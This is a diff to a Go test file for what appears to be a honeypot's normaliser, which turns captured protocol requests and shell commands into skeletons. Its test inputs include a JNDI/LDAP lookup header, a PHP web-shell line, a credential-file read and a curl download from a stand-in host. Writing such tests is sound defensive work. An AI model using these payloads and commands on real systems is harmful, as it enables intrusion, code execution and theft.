@@ -27,7 +27,8 @@ func TestSkeletonsOfProtocols(t *testing.T) {
 		{"multipart", "http", "POST / HTTP/1.1\r\nContent-Type: multipart/form-data; boundary=x\r\n\r\n--x1\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n[1,\"b\"]\r\n--x1--\r\n",
 			"POST / HTTP/1.1\nContent-Type: multipart/form-data\nend\nContent-Disposition: form-data; name=\"a\"\n[<N>,<V>]"},
 		{"lookup in a header", "http", "GET / HTTP/1.1\r\nX: ${jndi:ldap://192.0.2.1:1389/a}\r\n\r\n", "GET / HTTP/1.1\nX: ${jndi:<URL>}\nend"},
-		{"RTSP", "rtsp", "OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "OPTIONS <URL> RTSP/1.0\nCSeq: <N>\nend"},
+		{"RTSP", "rtsp", "OPTIONS rtsp://192.0.2.1/ RTSP/1.0\r\nCSeq: 1\r\n\r\n", "OPTIONS rtsp://<V>/ RTSP/1.0\nCSeq: <N>\nend"},
+		{"absolute form", "http-proxy", "GET http://<HONEYPOT IP>:<PORT>/a?b=c HTTP/1.1\r\n\r\n", "GET http://<SELF>/a?b=<V> HTTP/1.1\nend"},
 		{"RDP cookie", "rdp", "\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n\x01\x00\x08\x00\x03\x00\x00\x00",
 			`X.224 connection request Cookie: mstshash=<V>` + "\n" + `\x01\x00\x08\x00\x03\x00\x00\x00`},
 		{"PostgreSQL", "postgresql", "\x00\x00\x00\x29\x00\x03\x00\x00user\x00bob\x00database\x00postgres\x00\x00", `startup \x00\x03\x00\x00` + "\nuser <V>\ndatabase <V>"},
@@ -68,6 +69,7 @@ func TestSkeletonsOfCommands(t *testing.T) {
 		"cat .git/config 2>/dev/null":                              "cat <V>",
 		"echo a b c 'd e'":                                         "echo <V> <S>",
 		"powershell -c \"40168*44475\"":                            "powershell -c <S>",
+		"if ! type curl; then x; fi":                               "if ! type <V>\nthen x\nfi",
 		"if [ -f x ]; then sudo rm -f x; fi":                       "if [ -f <V>\nthen sudo rm -f <V>\nfi",
 		"`whoami`$(id)":                                            "whoami\nid",
 		"<?php system($_GET['c']);":                                "<?php system($_GET['c']);",
@@ -79,6 +81,10 @@ func TestSkeletonsOfCommands(t *testing.T) {
 	}
 	if a, b := parsed("", "x", "cat a|tail -n +3 | head -n 1").Cargo, parsed("", "x", "cat /b 2>&1").Cargo; a.Compared() != b.Compared() || a.Text == b.Text {
 		t.Errorf("filters of output are compared: %q %q", a.Compared(), b.Compared())
+	}
+	if a, b := parsed("", "x", "cd /tmp||cd /;curl -fsSL http://192.0.2.1 -o x").Cargo, parsed("", "x", "cd /; curl 192.0.2.1").Cargo; Show(a.Compared()) != "cd <V>\ncurl <URL> <V>" ||
+		Show(b.Compared()) != "" && Show(b.Compared()) != "cd <V>\ncurl <IP>" {
+		t.Errorf("options and repetitions are compared: %q %q", Show(a.Compared()), Show(b.Compared()))
 	}
 }
 
